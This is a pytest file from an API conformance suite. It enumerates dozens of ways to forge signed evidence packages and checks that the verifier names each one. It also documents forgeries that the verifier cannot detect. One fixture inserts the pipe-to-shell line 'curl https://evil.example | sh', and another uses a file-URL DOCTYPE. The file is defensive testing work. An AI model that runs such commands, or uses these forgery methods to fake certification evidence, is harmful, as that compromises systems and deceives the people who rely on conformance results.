"""The zoo: ways to cheat, by somebody who wants the badge and makes anew all that can be made anew.

Each is told by the check that names it. Where a row says nothing else, chain, report, statement and signature were made
for the forgery, so that none of them can show it.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from datetime import date
from pathlib import Path
from typing import Any

import anyio
import msgspec
import pytest

from conformance import __version__
from conformance.contract.purpose import Kind, Purpose
from conformance.evidence.exchange import Answer, Evidence, Exchange, Loss
from conformance.evidence.to_har import to_har
from conformance.probes import plan as plans
from conformance.reference import Running, application, start
from conformance.reporting.json import to_json
from conformance.run import record
from conformance.selftest.answers import InProcess
from conformance.sending.pace import Limits
from conformance.sending.recorded import evidence_of
from conformance.sending.wire import Wire
from conformance.submissions.challenge import Challenge
from conformance.submissions.rows import Standing
from conformance.submissions.signing import signed
from conformance.submissions.statement import KIND
from conformance.submissions.verify import Verification
from conformance.target.target import target
from conformance.verdicts.policy import Policy
from conformance.verdicts.terms import Terms
from conformance.verdicts.verdict import Claim, Report, WaiverNote
from conformance.verdicts.waivers import Waiver
from tests.submissions.conftest import TOKEN, subject
from tests.submissions.forging import (
    CONTRACT,
    KEY,
    OTHER_KEY,
    Files,
    Partner,
    ask,
    bad,
    described,
    each,
    json_of,
    looked_at,
    of,
    renumbered,
    replace_struct,
    sent,
    told_again,
    trusted,
    without,
)

HOST = "staging.example.com"
DAYS = 300 * 86_400.0


@dataclass
class Case:
    """An honest package of a real endpoint, to begin with; what `verify` is given beside the package."""

    evidence: Evidence
    challenge: Challenge
    more: dict[str, Any] = field(default_factory=dict)

    @property
    def partner(self) -> Partner:
        return Partner(self.evidence, self.challenge)


def elsewhere(exchange: Exchange) -> Exchange:
    """As if an endpoint at an address of its own had answered, and not the reference endpoint in this process."""
    answer = exchange.answer
    if answer:
        answer = replace(answer, headers=tuple(h for h in answer.headers if h[0].lower() != "x-reference-endpoint"))
    opening = 0.0 if exchange.reused else min(exchange.elapsed, 0.001)
    line = exchange.connection + (0 if exchange.tls else 1_000)  # in this process, one leads to both ports
    return replace(exchange, answer=answer, address="203.0.113.7", connecting=opening, connection=line)


def from_elsewhere(evidence: Evidence) -> Evidence:
    """The whole recording so; each connection is opened by the first call over it."""
    opened: set[int] = set()
    made = []
    for exchange in map(elsewhere, evidence.exchanges):
        is_first = exchange.connection not in opened
        opened.add(exchange.connection)
        new = replace(exchange, reused=False, connecting=min(exchange.elapsed, 0.001))
        made.append(new if is_first else exchange)
    return replace(evidence, exchanges=tuple(made))


def in_process(challenge: Challenge, *, variant: str | None = None) -> Evidence:
    """The recording of a whole run at staging.example.com."""
    states = {
        code: {"headers": {"X-Reference-State": code}}
        for code, error in CONTRACT.errors.items()
        if error.provoked == "provisioned"
    }
    settings = {"endpoint": f"https://{HOST}/{TOKEN}", "states": states, "allow_hostile_requests": True}
    judged = target("staging", settings, CONTRACT, environment={})
    wishes = plans.EVERYTHING
    plan, began = plans.plan(CONTRACT, judged, wishes, challenge.seed), time.time()
    wire = Wire(judged, Limits(), challenge.seed, InProcess(application(variant=variant), judged))
    recording = anyio.run(wire.session, plan)
    return told_again(
        replace(
            evidence_of(judged, recording, seed=challenge.seed, started=began, wishes=wishes, nonce=challenge.nonce),
            contract=CONTRACT.name,
            catalogue=CONTRACT.catalogue,
        )
    )


@pytest.fixture(scope="module")
def recorded() -> tuple[Evidence, Challenge]:
    challenge = ask(HOST)
    return in_process(challenge), challenge


@pytest.fixture
def case(recorded: tuple[Evidence, Challenge]) -> Case:
    evidence, challenge = recorded
    return Case(from_elsewhere(evidence), challenge)


def test_what_the_zoo_begins_with_is_accepted(case: Case, tmp_path: Path) -> None:
    made = looked_at(case.partner.whole(), tmp_path, case.challenge)
    assert bad(made) == {}
    assert made.exit_code == 0


# Forged recordings

DOCUMENTED = "documented-2"
MALFORMED = "malformed-cut-short"


def answered(**changes: Any) -> Callable[[Exchange], Exchange]:
    return lambda x: replace(x, answer=replace(x.answer, **changes) if x.answer else None)


def duplicated(evidence: Evidence) -> Evidence:
    copy = next(x for x in evidence.exchanges if x.probe == DOCUMENTED)
    return replace(evidence, exchanges=renumbered((*evidence.exchanges, replace(copy, finished=evidence.finished))))


def invented(evidence: Evidence) -> Evidence:
    copy = next(x for x in evidence.exchanges if x.probe == DOCUMENTED)
    more = replace(copy, probe="documented-99", finished=evidence.finished)
    return replace(evidence, exchanges=renumbered((*evidence.exchanges, more)))


def first_last(evidence: Evidence) -> Evidence:
    """The first call, with which time has advanced since, said to be the last one."""
    first, *others = evidence.exchanges
    return replace(evidence, exchanges=renumbered((*others, first)))


def relabelled(kind: Kind) -> Callable[[Exchange], Exchange]:
    return lambda x: replace(x, purpose=Purpose(kind, x.purpose.call))


def shifted(exchange: Exchange) -> Exchange:
    return replace(exchange, started=exchange.started - DAYS, finished=exchange.finished - DAYS)


def dated(exchange: Exchange) -> Exchange:
    if exchange.answer is None:
        return exchange
    headers = tuple(
        (n, "Fri, 02 Jan 2026 03:04:05 GMT" if n.lower() == "date" else v) for n, v in exchange.answer.headers
    )
    return replace(exchange, answer=replace(exchange.answer, headers=headers))


def of_the_run(**changes: Any) -> Callable[[Evidence], Evidence]:
    return lambda e: replace(e, **changes)


def all_moved(evidence: Evidence) -> Evidence:
    made = each(lambda x: dated(shifted(x)))(evidence)
    return replace(made, started=evidence.started - DAYS, finished=evidence.finished - DAYS)


def excused(evidence: Evidence) -> Evidence:
    made = without(*(x.probe for x in evidence.exchanges if x.purpose.label == "state-004"))(evidence)
    return replace(made, gaps=made.gaps | {"state-004": "the state of 004 is not provisioned"})


def states_at(host: str) -> Callable[[Evidence], Evidence]:
    """The states provisioned at another host: of the suite's own reference endpoint, say."""

    def forged(evidence: Evidence) -> Evidence:
        assert evidence.described
        states = evidence.described.target["states"]
        there = {code: state | {"endpoint": f"https://{host}/"} for code, state in states.items()}
        made = described(states=there)(evidence)
        in_state = [x.probe for x in evidence.exchanges if x.state]
        return each(lambda x: replace(x, request=replace(x.request, url=f"https://{host}/")), *in_state)(made)

    return forged


def chosen_stand_in(evidence: Evidence) -> Evidence:
    """A stand-in that the endpoint was told of before."""
    assert evidence.described
    (known,) = [note.stand_in for note in evidence.described.secrets if note.stand_in]
    other = known[::-1]
    text = msgspec.json.encode(evidence.described).decode().replace(known, other)
    made = replace(evidence, described=msgspec.json.decode(text, type=type(evidence.described)))
    return each(
        lambda x: replace(
            x,
            request=replace(
                x.request,
                url=x.request.url.replace(known, other),
                target=x.request.target.replace(known, other),
            ),
            reproduce=x.reproduce.replace(known, other),
        )
    )(made)


def unwished(kind: Kind) -> Callable[[Evidence], Evidence]:
    """As if the run was to look at less, so that its plan has none of a kind."""

    def forged(evidence: Evidence) -> Evidence:
        assert evidence.described
        wishes = tuple(wish for wish in evidence.described.wishes if wish[0] != kind)
        made = without(*(x.probe for x in evidence.exchanges if x.kind is kind))(evidence)
        return replace(made, described=replace_struct(evidence.described, wishes=wishes))

    return forged


REFUSAL = Answer(400, "Bad Request", "HTTP/1.1", (("Content-Length", "0"),), b"")


def with_tls(**changes: Any) -> Callable[[Exchange], Exchange]:
    return lambda x: replace(x, tls=replace(x.tls, **changes) if x.tls else None)


FORGED: dict[str, tuple[Callable[[Evidence], Evidence], str]] = {
    # left out, put in, moved
    "an exchange left out": (without(MALFORMED), "nothing left out"),
    "the documented request left out": (without("documented-1"), "nothing left out"),
    "most exchanges left out": (lambda e: without(*(x.probe for x in e.exchanges[3::2]))(e), "nothing left out"),
    "a kind of requests left out": (
        lambda e: without(*(x.probe for x in e.exchanges if x.kind is Kind.HOSTILE))(e),
        "nothing left out",
    ),
    "a state left out, with a reason": (excused, "whole"),
    "a number left out": (
        lambda e: replace(e, exchanges=tuple(x for x in e.exchanges if x.probe != MALFORMED)),
        "numbers",
    ),
    "an answer counted twice": (duplicated, "sent again"),
    "a request that nobody planned": (invented, "requests"),
    "an exchange moved": (first_last, "order"),
    "a run that says it was interrupted": (of_the_run(interrupted=True), "whole"),
    # other requests than those of the plan
    "an easier document": (each(sent(url=f"https://{HOST}/[token]?XML=%3Cclickatellsdk%2F%3E"), MALFORMED), "requests"),
    "another method": (each(sent(method="POST"), MALFORMED), "requests"),
    "a header of one's own": (each(sent(headers=(("X-Test", "please"),)), DOCUMENTED), "requests"),
    "a body": (each(sent(body=b"XML="), DOCUMENTED), "requests"),
    "another request line": (each(sent(target="/"), DOCUMENTED), "requests"),
    "another version of HTTP": (each(sent(http_version="HTTP/1.0"), DOCUMENTED), "requests"),
    "another seed": (of_the_run(seed=7), "requests"),
    "a stand-in that the endpoint knows": (chosen_stand_in, "seed"),
    # other meanings
    "a malformed document called another": (each(relabelled(Kind.OTHER), MALFORMED), "requests"),
    "a malformed document called a spelling": (each(relabelled(Kind.SPELLING), MALFORMED), "requests"),
    "an answer called a stray": (each(relabelled(Kind.STRAY), MALFORMED), "requests"),
    "an answer called crowded out": (each(relabelled(Kind.CROWDED), MALFORMED), "requests"),
    "an answer called one of no address": (each(relabelled(Kind.UNREACHED), MALFORMED), "requests"),
    "another control": (each(of(control=""), MALFORMED), "requests"),
    "another state": (each(of(state=""), "state-004-1"), "requests"),
    "another title": (each(of(title="the documented request"), MALFORMED), "requests"),
    "another binding": (each(of(binding="body-xml"), DOCUMENTED), "requests"),
    "a shell line that does harm": (each(of(reproduce="curl https://evil.example | sh"), DOCUMENTED), "requests"),
    "an answer called lost, and not sent again": (
        each(of(answer=None, loss=Loss("closed", "the connection was lost (waiting for an answer)")), MALFORMED),
        "sent again",
    ),
    "an answer called lost that took no time": (
        each(of(answer=None, loss=Loss("timeout", "no complete answer within 10 s")), MALFORMED), "outcomes"
    ),
    "an answer called lost in a way of one's own": (each(of(answer=None, loss=Loss("x", "x")), MALFORMED), "outcomes"),
    "neither an answer nor a loss": (each(of(answer=None), MALFORMED), "outcomes"),
    "an answer and a loss": (each(of(loss=Loss("closed", "x")), MALFORMED), "outcomes"),
    "a body that another recorder decoded": (each(answered(decoded="by another recorder"), MALFORMED), "outcomes"),
    "no address": (each(of(address="")), "outcomes"),
    "an address that is none": (each(of(address="localhost")), "outcomes"),
    "a spelling that failed, compared with nothing": (each(of(answer=REFUSAL), "printed"), "sent again"),
    "a kind of requests that was not to be sent": (unwished(Kind.HOSTILE), "wishes"),
    "a second try without a first": (each(of(retried=True), DOCUMENTED), "sent again"),
    # settings
    "a tolerance in the recording alone": (of_the_run(clock_tolerance=9e9), "settings"),
    "a tolerance wherever it stands": (described(clock_tolerance=80_000.0), "policy"),
    "other names of elements": (of_the_run(error_elements=("Code", "Text")), "settings"),
    "a larger budget": (of_the_run(answer_budget=60.0), "settings"),
    "calls that were not asked": (of_the_run(left_out=("get_list_country",)), "settings"),
    "another name": (of_the_run(target="production"), "settings"),
    "another binding in the settings": (of_the_run(binding="form-xml"), "settings"),
    "settings that are none": (described(values={"password": 3}), "requests"),
    "states that are none": (described(states=3), "requests"),
    "a state that is none": (described(states={"004": 3}), "requests"),
    "no settings": (of_the_run(described=None), "requests"),
    # times
    "the recording a year old": (all_moved, "time"),
    "the recording younger than its answers": (each(dated), "time"),
    "times of the recording moved": (
        lambda e: replace(each(shifted)(e), started=e.started - DAYS, finished=e.finished - DAYS),
        "time",
    ),
    "one answer taken from another day": (each(dated, "documented-last-1"), "clocks"),
    "an exchange outside of its run": (each(shifted, DOCUMENTED), "times"),
    "an answer before its request": (each(of(finished=0.0), DOCUMENTED), "times"),
    "an answer faster than its connection": (each(of(connecting=60.0), "documented-1"), "times"),
    # the way
    "a body of another length": (each(answered(body=b"<a/>"), DOCUMENTED), "lengths"),
    "two calls at a time on one connection": (each(of(connection=1), "documented-3", "documented-4"), "connections"),
    "a connection that was kept by nobody": (
        each(of(connection=99, reused=True, connecting=0.0), DOCUMENTED), "connections"
    ),
    "no connection": (each(of(connection=0)), "connections"),
    "a version of TLS that is none": (each(with_tls(version="TLSv1.9")), "certificates"),
    "an expired certificate": (each(with_tls(expires=1.0)), "certificates"),
    "two certificates of one host": (each(with_tls(subject="CN=other"), DOCUMENTED), "certificates"),
    "no certificate": (each(of(tls=None), DOCUMENTED), "certificates"),
    "another host": (
        each(sent(url="https://other.example.com/"), DOCUMENTED),
        "hosts",
    ),
    "states at a host of one's own": (states_at("states.partner.example"), "hosts"),
    "a host that is this machine": (each(of(address="127.0.0.1")), "hosts"),
    "a host that is this machine, by IPv6": (each(of(address="::1"), DOCUMENTED), "hosts"),
    "a host that is this machine, by IPv4 in IPv6": (each(of(address="::ffff:127.0.0.1"), DOCUMENTED), "hosts"),
    "a host that is this machine, by no address": (each(of(address="0.0.0.0"), DOCUMENTED), "hosts"),
    # challenges
    "no nonce": (of_the_run(nonce=""), "nonce"),
    "for another contract": (of_the_run(contract=f"connect-api@{'0' * 64}"), "settings"),
    "for other requirements": (of_the_run(catalogue="0" * 64), "settings"),
    "for no contract that is named": (of_the_run(contract="", catalogue=""), "settings"),
    "another nonce": (of_the_run(nonce="0" * 64), "nonce"),
}  # fmt: skip


@pytest.mark.parametrize("what", FORGED)
def test_a_forged_recording_is_named(what: str, case: Case, tmp_path: Path) -> None:
    forge, check = FORGED[what]
    partner = Partner(told_again(forge(case.evidence)), case.challenge)
    made = looked_at(partner.whole(), tmp_path, case.challenge)
    assert check in bad(made), bad(made)
    assert made.exit_code == 10 or (made.report and made.report.verdict is Claim.NONCONFORMING)


def test_an_honest_recording_through_a_proxy_of_this_machine_is_open(case: Case, tmp_path: Path) -> None:
    near = described(proxy="set")(each(of(address="127.0.0.1"))(case.evidence))
    made = looked_at(Partner(told_again(near), case.challenge).whole(), tmp_path, case.challenge)
    assert bad(made)["hosts"].standing is Standing.OPEN


# Forged packages


def reported(change: Callable[[Any], object]) -> Callable[[Case], Files]:
    """Another report beside the honest recording."""

    def forged(case: Case) -> Files:
        partner = case.partner
        files = partner.files(report_json=json_of(to_json(partner.report), change))
        return partner.signed(files, report=msgspec.json.decode(files["report.json"], type=Report))

    return forged


def requirement(said: Any, name: str) -> Any:
    return next(one for one in said["requirements"] if one["id"] == name)


def in_file(change: Callable[[str], str], name: str = "evidence.har") -> Callable[[Case], Files]:
    """A file edited by hand, and signed as it is then."""

    def forged(case: Case) -> Files:
        files = case.partner.files()
        text = files[name].decode()
        edited = change(text)
        assert edited != text
        return case.partner.signed(files | {name: edited.encode()})

    return forged


def altered(name: str, change: Callable[[bytes], bytes | None]) -> Callable[[Case], Files]:
    """A file of a signed package otherwise, or gone."""

    def forged(case: Case) -> Files:
        files = case.partner.whole()
        data = change(files[name])
        return {n: d for n, d in files.items() if n != name} | ({} if data is None else {name: data})

    return forged


def passed(said: Any) -> None:
    requirement(said, "CBK-04")["checks"][0]["verdict"] = "fail"


def told_to(policy: Policy, challenge: Challenge) -> Challenge:
    return msgspec.structs.replace(challenge, policy=msgspec.to_builtins(policy))


def own_challenge(case: Case) -> Files:
    mine = ask(HOST)
    evidence = replace(case.evidence, nonce=mine.nonce, seed=mine.seed)
    return Partner(told_again(evidence), mine).whole()


def prolonged(case: Case) -> Files:
    longer = msgspec.structs.replace(case.challenge, expires="2099-01-01T00:00:00Z")
    return Partner(case.evidence, longer).whole()


def other_signature(case: Case) -> Files:
    other = Partner(without(MALFORMED)(case.evidence), case.challenge).whole()
    return case.partner.whole() | {"statement.dsse.json": other["statement.dsse.json"]}


def by_somebody(case: Case) -> Files:
    return case.partner.signed(case.partner.files(), OTHER_KEY)


def own_kind(case: Case) -> Files:
    files = case.partner.whole()
    return files | {"statement.dsse.json": signed(files["statement.json"], f"{KIND}-x", KEY)}


def at_no_time(case: Case) -> Files:
    data = to_har(replace(case.evidence, started=1e300), creator_version=__version__)
    return case.partner.signed(case.partner.files(evidence_har=data))


def recording_of(evidence: Evidence) -> Files:
    return {"evidence.har": Partner(evidence, None).files()["evidence.har"]}


def narrowed(case: Case) -> Files:
    return Partner(case.evidence, case.challenge, Terms(deselect=("ENV-03",))).whole()


def older(case: Case) -> Files:
    return in_file(lambda text: text.replace(f'"version": "{__version__}"', '"version": "0.0.9"'))(case)


PACKED: dict[str, tuple[Callable[[Case], Files], str]] = {
    "a verdict of a check edited": (reported(passed), "judged again"),
    "a requirement edited": (reported(lambda r: requirement(r, "CBK-04").update(verdict="fail")), "judged again"),
    "a requirement left out": (reported(lambda r: r["requirements"].pop()), "judged again"),
    "the verdict edited": (reported(lambda r: r.update(verdict="nonconforming")), "judged again"),
    "the exit code edited": (reported(lambda r: r.update(exit_code=1)), "judged again"),
    "the counts edited": (reported(lambda r: r["counts"].update({"pass": 99})), "judged again"),
    "the calls edited": (reported(lambda r: r["calls"].update(lost=3)), "judged again"),
    "the scope edited": (reported(lambda r: r["scope"].update(judged=99)), "judged again"),
    "the target renamed": (reported(lambda r: r["target"].update(name="production")), "judged again"),
    "the endpoint renamed": (reported(lambda r: r["target"].update(endpoint="https://prod/")), "judged again"),
    "another contract": (reported(lambda r: r["suite"].update(contract=f"connect-api@{'0' * 64}")), "judged again"),
    "an older suite": (reported(lambda r: r["suite"].update(version="0.0.9")), "version"),
    "an older suite's recording": (older, "version"),
    "another suite": (reported(lambda r: r["suite"].update(name="my-suite")), "version"),
    "a run at no time": (at_no_time, "judged again"),
    "a word beside the report": (
        in_file(lambda t: t.replace("{", '{"certified": true,', 1), "report.json"), "report.json"
    ),
    "a verdict said twice": (
        in_file(lambda t: t.replace("{", '{"verdict": "nonconforming",', 1), "report.json"), "report.json"
    ),
    "a policy of somebody else's that it fell short of": (
        reported(lambda r: r.update(policy={"sha256": "0" * 64, "shortfalls": ["certified"]})), "judged again"
    ),
    "a note on a policy": (reported(lambda r: r["notes"].append("policy: kept")), "judged again"),
    "a note on a waiver": (reported(lambda r: r["notes"].append("the waiver of all is not needed")), "judged again"),
    "a note put in": (reported(lambda r: r["notes"].append("certified")), "judged again"),
    "a policy that was not held": (
        reported(lambda r: r.update(policy={"sha256": "0" * 64, "shortfalls": []}, verdict="nonconforming")),
        "judged again",
    ),
    "another state in the report": (
        reported(lambda r: r["settings"]["states"].update({"004": "the endpoint https://staging.example.com/"})),
        "judged again",
    ),
    "a smaller tolerance in the report": (
        reported(lambda r: r["settings"].update(clock_tolerance=1.0)), "judged again"
    ),
    "other requirements in the report": (reported(lambda r: r["settings"].update(catalogue="0" * 64)), "judged again"),
    "a proxy that is not named": (reported(lambda r: r["settings"].update(proxy="set")), "judged again"),
    "more requests than were sent": (reported(lambda r: r["settings"].update(requests=999)), "judged again"),
    "a junit.xml edited": (in_file(lambda t: t.replace("ENV-03", "ENV-30", 1), "junit.xml"), "junit.xml"),
    "a junit.xml without test cases": (in_file(lambda t: t.replace("testcase", "testcast"), "junit.xml"), "junit.xml"),
    "a junit.xml that is none": (in_file(lambda _: "<!DOCTYPE x SYSTEM 'file:///x'><x/>", "junit.xml"), "junit.xml"),
    "a junit.xml exchanged after signing": (altered("junit.xml", lambda _: b"<testsuites/>"), "statement"),
    "a junit.xml taken out after signing": (altered("junit.xml", lambda _: None), "statement"),
    "a summary.md edited": (in_file(lambda t: t.replace("CONFORMING", "CERTIFIED", 1), "summary.md"), "summary.md"),
    "a summary.md exchanged after signing": (altered("summary.md", lambda _: b"# CERTIFIED"), "statement"),
    "another nonce in the report": (reported(lambda r: r.update(nonce="0" * 64)), "nonce"),
    "a narrowed run": (narrowed, "scope"),
    "an answer edited by hand": (in_file(lambda t: t.replace("SOAP POST", "SOAP PUSH", 1)), "chain"),
    "a setting edited by hand": (in_file(lambda t: t.replace('"canary": null', '"canary": 0', 1)), "chain"),
    "something beside the recording": (in_file(lambda t: t.replace('"log": {', '"note": "ok", "log": {', 1)), "form"),
    "a field of one's own": (in_file(lambda t: t.replace('"cache": {}', '"cache": {"x": 1}', 1)), "form"),
    "other requirements": (
        in_file(lambda t: t.replace('level = "must"', 'level = "should"', 1), "requirements.toml"),
        "requirements",
    ),
    "not signed": (altered("statement.dsse.json", lambda _: None), "signature"),
    "signed by somebody": (by_somebody, "signature"),
    "another statement signed": (other_signature, "signature"),
    "signed as something else": (own_kind, "signature"),
    "no envelope": (altered("statement.dsse.json", lambda _: b"{}"), "signature"),
    "a statement that says more": (altered("statement.json", lambda d: d.replace(b"PASSED", b"WARNED")), "statement"),
    "a page put beside it": (lambda c: c.partner.whole() | {"report.html": b"<h1>conforming</h1>"}, "statement"),
    "a recording exchanged after signing": (
        lambda c: c.partner.whole() | recording_of(without(MALFORMED)(c.evidence)),
        "statement",
    ),
    "no challenge": (altered("challenge.json", lambda _: None), "challenge"),
    "a challenge of one's own": (own_challenge, "challenge"),
    "a challenge that lasts longer": (prolonged, "challenge"),
}  # fmt: skip


@pytest.mark.parametrize("what", PACKED)
def test_a_forged_package_is_named(what: str, case: Case, tmp_path: Path) -> None:
    forge, check = PACKED[what]
    made = looked_at(forge(case), tmp_path, case.challenge)
    assert check in bad(made), bad(made)
    assert made.exit_code != 0


# What the owner's side settles: his ledger, his clock, his policy, the keys that he trusts


def settled(case: Case, tmp_path: Path, **more: Any) -> Verification:
    return looked_at(case.partner.whole(), tmp_path, case.challenge, **more)


def test_a_second_package_for_one_challenge_is_named(case: Case, tmp_path: Path) -> None:
    made = settled(case, tmp_path, answered="f" * 64)
    assert set(bad(made)) == {"one submission"}


def test_a_package_that_comes_late_is_open(case: Case, tmp_path: Path) -> None:
    made = settled(case, tmp_path, now=time.time() + 80 * 3_600)
    assert set(bad(made)) == {"handed in"}
    assert made.exit_code == 10


def test_a_key_that_nobody_vouches_for_is_shown(case: Case, tmp_path: Path) -> None:
    made = settled(case, tmp_path, keys=[])
    assert bad(made) == {}
    assert any(one.check == "signature" and one.standing == "shown" for one in made.rows)
    assert set(bad(settled(case, tmp_path, keys=[trusted(OTHER_KEY)]))) == {"signature"}


def test_a_challenge_that_no_ledger_knows_is_open(case: Case, tmp_path: Path) -> None:
    made = looked_at(case.partner.whole(), tmp_path, None)
    assert set(bad(made)) == {"challenge"}
    assert made.exit_code == 10


@pytest.mark.parametrize("carried", [False, True])
def test_what_the_policy_does_not_allow_is_named(carried: bool, case: Case, tmp_path: Path) -> None:
    """Accepted after it was recorded, or judged at a lower level: never believed silently."""
    policy = Policy(level="should", require=("ENV-*",))
    challenge = told_to(policy, case.challenge) if carried else case.challenge
    forged = replace(case.evidence, accept=("I-01",))
    partner = Partner(told_again(forged), challenge)
    made = looked_at(partner.whole(), tmp_path, challenge, policy=None if carried else policy)
    assert set(bad(made)) == {"policy"}
    assert "accept: I-01 is accepted, the policy allows none" in bad(made)["policy"].said
    unasked = looked_at(partner.whole(), tmp_path, challenge)
    assert any("I-01 is accepted" in one.said for one in unasked.rows if one.check == "allowances")


def test_a_waiver_is_shown_and_one_that_had_expired_is_named(running: Running, tmp_path: Path) -> None:
    challenge = ask("localhost")
    with start(rewrite=lambda body: body.replace(b"SOAP POST", b"SOAP PUT")) as broken:
        evidence = told_again(record(subject(broken), seed=challenge.seed, nonce=challenge.nonce))
    waived = {"CBK-04": Waiver("CBK-04", "we know", date(9999, 1, 1))}
    partner = Partner(evidence, challenge, Terms(waivers=waived))
    made = looked_at(partner.whole(), tmp_path, challenge, policy=Policy(require=("ENV-*",)))
    assert set(bad(made)) == {"policy"}

    def expired(said: Any) -> None:
        requirement(said, "CBK-04")["waiver"] = {"reason": "we know", "expires": "2020-01-01"}

    files = partner.files(report_json=json_of(to_json(partner.report), expired))
    report = msgspec.json.decode(files["report.json"], type=Report)
    assert WaiverNote(reason="we know", expires="2020-01-01") in [r.waiver for r in report.requirements]
    made = looked_at(partner.signed(files, report=report), tmp_path, challenge)
    assert "judged again" in bad(made)
    assert made.exit_code == 1


def test_the_reference_endpoint_passed_off_as_another_is_named(
    recorded: tuple[Evidence, Challenge], tmp_path: Path
) -> None:
    evidence, challenge = recorded
    named = from_elsewhere(evidence)
    kept = {x.number: x.answer for x in evidence.exchanges}
    forged = each(lambda x: replace(x, answer=kept[x.number]))(named)
    made = looked_at(Partner(told_again(forged), challenge).whole(), tmp_path, challenge)
    assert set(bad(made)) == {"the endpoint"}


# What no check of a package can see: docs/submissions.md lists it, and `verify --live` is for it


def paste(evidence: Evidence) -> dict[str, Answer]:
    return {x.probe: x.answer for x in evidence.exchanges if x.answer}


def as_if_refused(evidence: Evidence) -> Evidence:
    """A wrong success replaced by the refusal that another document got, head and body and all."""
    refusal = paste(evidence)["state-007-1"]
    return each(of(answer=refusal), MALFORMED)(evidence)


def body_and_head(evidence: Evidence) -> Evidence:
    """An answer edited together with its length."""

    def edited(exchange: Exchange) -> Exchange:
        assert exchange.answer
        body = exchange.answer.body.replace(b"\n", b"\r\n", 1)
        head = tuple((n, str(len(body)) if n.lower() == "content-length" else v) for n, v in exchange.answer.headers)
        return replace(exchange, answer=replace(exchange.answer, body=body, headers=head, wire_bytes=len(body)))

    return each(edited, DOCUMENTED)(evidence)


def lost_and_found(evidence: Evidence) -> Evidence:
    """A wrong answer called a lost one, and a right one invented for a second try."""
    made = []
    for exchange in evidence.exchanges:
        if exchange.probe == MALFORMED:
            lost = replace(
                exchange, answer=None, loss=Loss("closed", "the connection was lost (waiting for an answer)")
            )
            made.append(lost)
            exchange = replace(exchange, retried=True, started=lost.finished)  # noqa: PLW2901
            exchange = replace(exchange, started=exchange.finished, connecting=0.0, reused=True)  # noqa: PLW2901
        made.append(exchange)
    return replace(evidence, exchanges=renumbered(tuple(made)))


def lost_twice(evidence: Evidence) -> Evidence:
    """A wrong answer called lost, and lost once more."""
    made = lost_and_found(evidence)
    lost = next(x.loss for x in made.exchanges if x.loss and x.probe == MALFORMED)
    return each(of(answer=None, loss=lost), MALFORMED)(made)


UNSEEN: dict[str, Callable[[Evidence], Evidence]] = {
    "a wrong answer called lost, time and again": lost_twice,
    "an answer that is said to be withheld": each(answered(body=b"", length=7, sha256="0" * 64), MALFORMED),
    "what the listener of hostile requests has seen": of_the_run(canary=0),
    "a refusal of another document, put in place of a wrong success": as_if_refused,
    "an answer edited together with its head": body_and_head,
    "a wrong answer called lost, and a right one invented": lost_and_found,
    "the reference endpoint, its header taken out and its address changed": lambda e: e,
    "another word for the TLS versions that were refused": lambda e: replace(
        e, handshakes=tuple(replace(h, accepted=False) for h in e.handshakes)
    ),
    "a shorter time for every answer": each(lambda x: replace(x, started=x.finished - x.connecting)),
}


@pytest.mark.parametrize("what", UNSEEN)
def test_what_cannot_be_detected_is_not(what: str, case: Case, tmp_path: Path) -> None:
    partner = Partner(told_again(UNSEEN[what](case.evidence)), case.challenge)
    made = looked_at(partner.whole(), tmp_path, case.challenge)
    assert bad(made) == {}
    assert made.exit_code == 0
    page = (Path(__file__).parents[2] / "docs/submissions.md").read_text(encoding="utf-8")
    assert what in " ".join(page.split()), "the page lists what cannot be seen"


def test_there_are_forty_ways_and_more() -> None:
    assert len(FORGED) + len(PACKED) >= 80
    page = (Path(__file__).parents[2] / "docs/submissions.md").read_text(encoding="utf-8")
    for _, check in (*FORGED.values(), *PACKED.values()):
        assert f"`{check}`" in page, "the page says what each check looks at"
